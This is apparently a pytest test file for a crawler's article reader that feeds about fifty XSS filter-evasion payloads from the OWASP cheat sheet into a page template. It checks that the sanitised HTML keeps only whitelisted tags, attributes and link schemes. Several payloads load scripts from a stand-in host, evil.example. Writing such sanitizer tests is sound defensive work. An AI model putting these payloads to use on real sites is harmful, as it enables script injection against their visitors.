"""content_html is safe to embed: classic ways to inject scripts are all neutralized.

The cases are from the OWASP cheat sheet on filter evasion, placed in a page's body.
"""

from __future__ import annotations

import pytest
from selectolax.lexbor import LexborHTMLParser

from crawler.formats.epoch.article import read_article

PAGE = (
    "### 标题\n\n---\n\n#### [首页](../../../..?n16000001)\n\n\n"
    '<div id="artbody">\n<p>前文</p>{}<p>后文</p>\n</div>'
    "\n\n\n---\n\n原文链接：https://www.epochtimes.com/gb/23/9/22/n16000001.htm"
)
EVASIONS = [
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<ok href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</ok>',
    '<ok href="\x01javascript:alert(1)">x</ok>',
    '<ok href="javascript&colon;alert(1)">x</ok>',
    '<ok href="data:text/html;base64,PHNjcmlwdD4=">x</ok>',
    '<ok href="vbscript:msgbox(1)">x</ok>',
    "<ok href='https://ok.example/\" onmouseover=\"alert(1)'>x</ok>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG onerror=alert(1) SRC=/>",
    '<img src=x onerror="&#0000106&#0000097alert(1)">',
    '<img alt=\'"><script>alert(1)</script>\' src="https://i.epochtimes.com/a.jpg">',
    "<SCRIPT/XSS SRC='https://evil.example/xss.js'></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
    "<<SCRIPT>alert('XSS');//\\<</SCRIPT>",
    "<SCRIPT SRC=https://evil.example/xss.js?< B >",
    "<IMG SRC=\"('XSS')\"",
    "</TITLE><SCRIPT>alert(1);</SCRIPT>",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD>x",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/s.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" AllowScriptAccess="always"></EMBED>',
    "<details open ontoggle=alert(1)>x</details>",
    '<video><source onerror="alert(1)"></video>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<? echo('<SCR)'; echo('IPT>alert(1)</SCRIPT>'); ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<xmp><p title="</xmp><svg/onload=alert(1)>">',
    "<plaintext><script>alert(1)</script>",
    '<p style="width: expression(alert(1));" onclick="alert(1)" id="x" class="y">x</p>',
]
ALLOWED = {
    "a": {"href"}, "img": {"src", "alt"},
    "td": {"colspan", "rowspan"}, "th": {"colspan", "rowspan"},
}  # fmt: skip
TAGS = set(
    "html head body p br h1 h2 h3 h4 h5 h6 blockquote ul ol li table caption thead tbody tfoot tr "
    "td th figure figcaption img a strong em u s sub sup colgroup".split()
)


@pytest.mark.parametrize("evasion", EVASIONS)
def test_nothing_executable_comes_out(evasion: str) -> None:
    page = read_article(PAGE.format(evasion))
    # as a browser parses it
    root = LexborHTMLParser(page.content_html).root
    assert root is not None
    for element in root.traverse(include_text=False):
        assert element.tag in TAGS
        assert set(element.attributes) <= ALLOWED.get(element.tag, set())
        for name in ("href", "src"):
            address = element.attributes.get(name, "https://")
            assert (address or "").startswith(("http://", "https://", "mailto:"))


@pytest.mark.parametrize("evasion", EVASIONS)
def test_the_text_around_it_stays(evasion: str) -> None:
    page = read_article(PAGE.format(evasion))
    assert page.content_text.startswith("前文")
